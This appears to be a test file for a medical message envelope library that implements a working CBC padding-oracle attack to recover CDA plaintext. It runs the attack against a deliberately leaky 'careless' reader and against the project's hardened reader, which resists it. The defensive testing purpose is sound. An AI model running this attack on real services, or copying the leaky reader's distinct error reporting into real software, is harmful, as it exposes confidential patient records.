/**
 * The attack that semrs-2017 invites (Vaudenay 2002): DICOM parts are unsigned and under the key of the CDA, so any block of
 * the CDA can be put where an image was, and a reader that says whether its padding was right decrypts it octet by octet.
 * Shown here against a careless reader, and then, word for word, against ours.
 */
import { constants, createDecipheriv, privateDecrypt } from "node:crypto";
import { describe, expect, test } from "vitest";
import { open2017, type RawHeaders, seal2017 } from "../../envelope/index.ts";
import { readParts } from "../../envelope/mime.ts";
import { codeOf, reasonOf } from "../../errors.ts";
import { bodyOf2017, by, draft2017, from, hospitalA, hospitalB, keyBook, opened2017, opening2017 } from "./legacy.ts";
import { cda, collect, inPieces } from "./samples.ts";

const blockBytes = 16;
/** Which block of the CDA the attacker wants, and how many of its last octets: enough to see that all would follow. */
const wantedBlock = 3;
const wantedOctets = 3;
const wanted = cda.subarray((wantedBlock + 1) * blockBytes - wantedOctets, (wantedBlock + 1) * blockBytes);
const transport = "rsa-pkcs1";

type Envelope = { readonly headers: RawHeaders; readonly body: Buffer };
/** All that a reader tells a stranger. */
type Reader = (envelope: Envelope) => Promise<string>;

const captured = async (): Promise<Envelope> => {
  const envelope = await seal2017(draft2017([100], by(transport)), hospitalA.signer);
  return { headers: envelope.headers, body: await bodyOf2017(envelope) };
};

/** The attacker knows what went over the wire, and nothing else: no key, no clear text. */
async function attack({ headers, body }: Envelope, ask: Reader, octets = wantedOctets) {
  const [document = Buffer.alloc(0), ...rest] = await partsOf({ headers, body });
  const image = rest[3] ?? Buffer.alloc(0);
  const at = blockBytes * (1 + wantedBlock);
  const [before, target] = [document.subarray(at - blockBytes, at), document.subarray(at, at + blockBytes)];
  /** The target block where the image was, with a block of one's own choice in front of it. */
  const asked = async (chosen: Uint8Array): Promise<string> => {
    const start = body.lastIndexOf(image);
    const spliced = [body.subarray(0, start), chosen, target, body.subarray(start + image.length)];
    return await ask({ headers, body: Buffer.concat(spliced) });
  };
  const answers = new Map<string, number>();
  /** What the block cipher makes of the target, octet by octet from the end. */
  const inner = Buffer.alloc(blockBytes);
  for (let found = 0; found < octets; found += 1) {
    const place = blockBytes - 1 - found;
    const padding = found + 1;
    // A guess is right when it makes the padding right whatever stands before it: octets of the CDA may do so by chance.
    const answerTo = async (guess: number, before: number): Promise<string> => {
      const chosen = Buffer.alloc(blockBytes, before);
      for (let known = place + 1; known < blockBytes; known += 1) chosen[known] = (inner[known] ?? 0) ^ padding;
      chosen[place] = guess ^ padding;
      const answer = await asked(chosen);
      answers.set(answer, (answers.get(answer) ?? 0) + 1);
      return answer;
    };
    const first: string[] = [];
    for (let guess = 0; guess < 256; guess += 1) first.push(await answerTo(guess, 0xa5));
    const [usual] = [...answers].sort(([, one], [, other]) => other - one)[0] ?? [];
    const told: number[] = [];
    for (const [guess, answer] of first.entries())
      if (answer !== usual && (await answerTo(guess, 0x5a)) !== usual) told.push(guess);
    if (told.length !== 1) return { answers, recovered: undefined };
    inner[place] = told[0] ?? 0;
  }
  const recovered = Buffer.from(inner.map((octet, index) => octet ^ (before[index] ?? 0)));
  return { answers, recovered: recovered.subarray(blockBytes - octets) };
}

async function partsOf({ headers, body }: Envelope): Promise<readonly Buffer[]> {
  const [, boundary = ""] = /boundary="(.*)"/.exec(headers.at(-1)?.[1] ?? "") ?? [];
  return await Array.fromAsync(readParts(inPieces(body), boundary, 10, "semrs-2017"), collect);
}

/** What one writes first: decrypt what comes, and report what went wrong. */
const careless: Reader = async (envelope) => {
  const [document, , , encKey, image] = (await partsOf(envelope)).map((part) => Buffer.from(part));
  const padding = constants.RSA_PKCS1_PADDING;
  try {
    const key = privateDecrypt({ key: hospitalB.pem.decryptKey, padding }, encKey ?? Buffer.alloc(0));
    for (const part of [document, image]) {
      const sealed = part ?? Buffer.alloc(0);
      const decipher = createDecipheriv("aes-256-cbc", key, sealed.subarray(0, blockBytes));
      decipher.update(sealed.subarray(blockBytes));
      decipher.final();
    }
    return "200 stored";
  } catch {
    return "500 could not decrypt";
  }
};

/** Ours, as a server would use it: a book of spent keys, answers stored, and told to the same octets again. */
const ours = (reserve = keyBook()): Reader => {
  return async ({ headers, body }) => {
    const opening = opening2017({ ...from(transport), reserve: reserve.reserve.bind(reserve) });
    return await open2017(headers, inPieces(body), opening).then(
      (result) => (result.outcome === "repeated" ? result.answer : "200 stored"),
      (thrown: unknown) => `${codeOf(thrown)} ${reasonOf(thrown)}`,
    );
  };
};

const refused = "ENVELOPE_NOT_OPENED the envelope does not open";

describe("the padding oracle", () => {
  test("a careless reader gives the CDA away", async () => {
    const { recovered, answers } = await attack(await captured(), careless);
    expect(recovered?.toString("latin1")).toBe(wanted.toString("latin1"));
    expect(new Set(answers.keys())).toEqual(new Set(["500 could not decrypt", "200 stored"]));
  });

  test("ours says one thing to every variant, after the envelope was delivered", async () => {
    const envelope = await captured();
    const reader = ours();
    expect(await reader(envelope)).toBe("200 stored");
    const { recovered, answers } = await attack(envelope, reader);
    expect(recovered).toBeUndefined();
    expect([...answers]).toEqual([[refused, 256]]);
  });

  test("and before it was delivered: one attempt spends the key, and the sender must seal anew", async () => {
    const envelope = await captured();
    const reader = ours();
    // A first attempt that is wrong; its chance to be right was 1 in 256, and there is no second one.
    const flipped = { ...envelope, body: Buffer.from(envelope.body) };
    const [document = Buffer.alloc(0)] = await partsOf(envelope);
    const at = flipped.body.indexOf(document) + 20;
    flipped.body[at] = (flipped.body[at] ?? 0) ^ 1;
    expect(await reader(flipped)).toBe(refused);
    const { recovered, answers } = await attack(envelope, reader);
    expect(recovered).toBeUndefined();
    expect([...answers]).toEqual([[refused, 256]]);
    expect(await reader(envelope)).toBe(refused);
    expect(await reader(await captured())).toBe("200 stored");
  });

  test("it is the reservation that holds: a caller who always says fresh gives an octet away in 256 attempts", async () => {
    const envelope = await captured();
    const always: Reader = async ({ headers, body }) =>
      await opened2017(headers, inPieces(body), from(transport)).then(
        () => "200 stored",
        (thrown: unknown) => codeOf(thrown),
      );
    expect((await attack(envelope, always, 1)).recovered?.toString("latin1")).toBe(wanted.toString("latin1", 2));
  });
});
